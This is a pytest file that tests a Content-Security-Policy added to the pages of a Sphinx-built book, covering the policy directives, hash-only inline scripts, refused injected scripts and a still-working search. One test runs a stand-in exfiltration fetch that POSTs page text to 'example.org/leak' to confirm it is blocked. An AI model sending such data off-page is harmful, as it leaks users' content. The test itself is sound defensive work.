"""Every page carries a Content-Security-Policy that keeps scripts local and stops data leaving the page."""

from __future__ import annotations

import re
from pathlib import Path

from ilomo.sphinxext.csp import add_csp, add_csp_to_site, policy_for, replace_inline_handlers, script_hash
from tests.conftest import serve_directory

CSP_META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')


def test_every_page_has_the_policy_before_any_script(built_html: Path) -> None:
    problems = []
    for page in sorted(p for p in built_html.rglob("*.html") if "_static" not in p.parts):
        html = page.read_text(encoding="utf-8")
        match = CSP_META.search(html)
        if not match:
            problems.append(f"{page.name}: no policy")
            continue
        policy = match.group(1)
        for directive in ("connect-src 'self'", "form-action 'none'", "object-src 'none'"):
            if directive not in policy:
                problems.append(f"{page.name}: missing {directive}")
        if "unsafe-inline" in policy.split("script-src")[1].split(";")[0] or "unsafe-eval" in policy:
            problems.append(f"{page.name}: scripts may run inline or from strings")
        first_script = html.find("<script")
        if first_script != -1 and first_script < match.start():
            problems.append(f"{page.name}: a script comes before the policy")
    assert not problems, "\n".join(problems)


def test_browser_refuses_a_request_to_another_host(site_url: str, browser) -> None:
    page = browser.new_page()
    violations: list[str] = []
    page.on("console", lambda msg: violations.append(msg.text) if "Content Security Policy" in msg.text else None)
    page.goto(f"{site_url}/book/intro.html")
    outcome = page.evaluate(
        """() => new Promise(resolve => {
            document.addEventListener('securitypolicyviolation', e => resolve('blocked: ' + e.violatedDirective));
            fetch('https://example.org/leak', {method: 'POST', body: 'mijn reflectie'}).catch(() => {});
            setTimeout(() => resolve('not blocked'), 2000);
        })"""
    )
    page.close()
    assert outcome == "blocked: connect-src"


def test_inline_scripts_are_allowed_by_hash_only() -> None:
    known = "DOCUMENTATION_OPTIONS.pagename = 'book/intro';"
    html = f'<html><head><meta charset="utf-8"></head><body><script>{known}</script></body></html>'
    policy = policy_for(html)
    assert f"script-src 'self' {script_hash(known)};" in policy
    assert add_csp(add_csp(html)).count("Content-Security-Policy") == 1  # idempotent


UNKNOWN_PAGE = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>t</title></head><body>
<script>DOCUMENTATION_OPTIONS = {}; DOCUMENTATION_OPTIONS.pagename = 'x';</script>
<script>window.injected = true;</script>
<script>window.known = true; DOCUMENTATION_OPTIONS.search_as_you_type = false;</script>
</body></html>"""


def test_an_unknown_inline_script_is_reported_and_refused(tmp_path: Path, browser) -> None:
    (tmp_path / "pagina.html").write_text(UNKNOWN_PAGE, encoding="utf-8")
    problems = add_csp_to_site(tmp_path)
    assert len(problems) == 3 and all("unknown inline script blocked by the CSP" in p for p in problems)
    assert "window.injected = true;" in problems[1]
    policy = CSP_META.search((tmp_path / "pagina.html").read_text(encoding="utf-8")).group(1)
    assert script_hash("window.injected = true;") not in policy
    server, url = serve_directory(tmp_path)
    page = browser.new_page()
    page.goto(f"{url}/pagina.html")
    ran = page.evaluate("() => [window.injected === true, window.known === true]")
    page.close()
    server.shutdown()
    assert ran == [False, False]  # the browser runs none of them


def test_the_build_knows_every_inline_script_it_writes(built_html: Path) -> None:
    from ilomo.sphinxext.csp import unknown_inline_scripts

    pages = [p for p in built_html.rglob("*.html") if "_static" not in p.parts]
    unknown = [f"{p.name}: {s}" for p in pages for s in unknown_inline_scripts(p.read_text(encoding="utf-8"))]
    assert unknown == []
    from ilomo.sphinxext import TEMPLATES
    from ilomo.sphinxext.csp import _template_script

    intro = CSP_META.search((built_html / "book" / "intro.html").read_text(encoding="utf-8")).group(1)
    allowed = intro.split("script-src")[1].split(";")[0]
    assert allowed.count("'sha256-") >= 4  # the known scripts keep working: colour mode, page name, ...
    stand_in = _template_script(TEMPLATES / "layout.html")
    assert script_hash(stand_in) in allowed  # ilomo's storage stand-in


def test_hide_search_matches_works_under_the_policy(site_url: str, browser) -> None:
    page = browser.new_page()
    violations: list[str] = []
    page.on("console", lambda msg: violations.append(msg.text) if "Content Security Policy" in msg.text else None)
    page.goto(f"{site_url}/book/intro.html?highlight=onrust")
    page.wait_for_selector("span.highlighted", timeout=5000)
    link = page.locator("#searchbox a, .highlight-link a").first
    assert link.inner_text().strip() == "Zoekresultaten verbergen"
    link.click()
    page.wait_for_function("() => !document.querySelector('span.highlighted')", timeout=3000)
    page.close()
    assert violations == []


def test_unknown_inline_handlers_are_reported() -> None:
    html, unknown = replace_inline_handlers('<button onclick="toggleFullScreen()"><a onmouseover="x()">')
    assert 'data-ilomo-action="fullscreen"' in html
    assert unknown == ['onmouseover="x()"']


def test_search_box_works_although_forms_may_not_submit(site_url: str, browser) -> None:
    page = browser.new_page()
    errors: list[str] = []
    page.on("console", lambda msg: errors.append(msg.text) if msg.type == "error" else None)
    page.goto(f"{site_url}/book/intro.html")
    page.keyboard.press("Control+k")
    page.keyboard.type("onrust")
    page.keyboard.press("Enter")
    page.wait_for_url("**/search.html?q=onrust*")
    page.wait_for_selector("#search-results li")
    page.close()
    assert errors == []
